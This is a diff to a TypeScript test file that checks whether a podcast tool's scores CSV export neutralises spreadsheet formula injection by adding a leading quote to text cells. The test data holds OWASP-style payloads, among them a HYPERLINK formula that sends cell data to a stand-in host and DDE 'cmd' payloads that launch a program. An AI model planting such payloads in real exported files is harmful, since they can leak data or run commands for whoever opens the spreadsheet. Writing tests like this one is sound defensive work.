@@ -4,7 +4,7 @@ import { UserError } from '../../src/core/errors'
 import { checkPodcastChapters, checkPublishedChapters } from '../../src/core/publish/checkPodcastChapters'
 import { writeEpisodePage } from '../../src/core/publish/episodePage'
 import { writePodcastChapters } from '../../src/core/publish/podcastChapters'
-import { SCORES_CSV_HEADER, writeScoresCsv } from '../../src/core/publish/scoresCsv'
+import { SCORES_CSV_HEADER, textCell, writeScoresCsv } from '../../src/core/publish/scoresCsv'
 import { writeVttChapters } from '../../src/core/publish/vttChapters'
 import { writeYoutubeChapters } from '../../src/core/publish/youtubeChapters'
 import { parseWebVtt, parseWebVttCues } from '../../src/core/transcript/parseWebVtt'
@@ -308,6 +308,45 @@ describe('scores as CSV', () => {
       ]),
     )
     expect(rows[5]).toEqual(['Rest', '12.500', '1020.000', 'The hosts as informed peer', '0', ''])
+  })
+
+  it("neutralises OWASP's formula injection payloads with a leading quote and keeps numbers as numbers", () => {
+    const payloads = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+      "=cmd|' /C calc'!A0",
+      "+SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '=1+1',
+      '\uff1dSUM(1+1)',
+    ]
+    const doc = publishedDocument({
+      chapters: payloads.map((payload, i) => ({
+        title: payload,
+        start: i * 10,
+        end: i * 10 + 10,
+        values: [0, 5, null, 10],
+        reasoning: payload,
+      })),
+    })
+    doc.rubric.dimensions[0] = { ...doc.rubric.dimensions[0]!, label: '@label' }
+    const rows = parseCsv(writeScoresCsv(doc)).slice(1)
+    for (const row of rows) {
+      const [title, start, end, dimension, score, reasoning] = row
+      for (const text of [title, dimension, reasoning]) expect(text).not.toMatch(/^[=+\-@\t\r\uff1d]/)
+      expect(payloads.map((p) => `'${p}`)).toContain(title)
+      expect(reasoning).toBe(title)
+      expect(Number(start)).not.toBeNaN()
+      expect(Number(end)).not.toBeNaN()
+      expect(score === '' || /^\d+$/.test(score ?? '')).toBe(true)
+    }
+    expect(rows[0]?.[3]).toBe("'@label")
+    expect(rows.map((r) => r[4]).slice(0, 4)).toEqual(['0', '5', '', '10'])
+    // Text in episode JSON is trimmed, so these two reach the writer only from elsewhere.
+    expect(textCell('\t=1+1')).toBe("'\t=1+1")
+    expect(textCell('\r=1+1')).toBe("'\r=1+1")
+    // A sign later in the text is no formula.
+    expect(textCell('Score: =10')).toBe('Score: =10')
   })
 
   it('ends every line, the last one too, with CRLF and has no bare line feed outside quotes', () => {
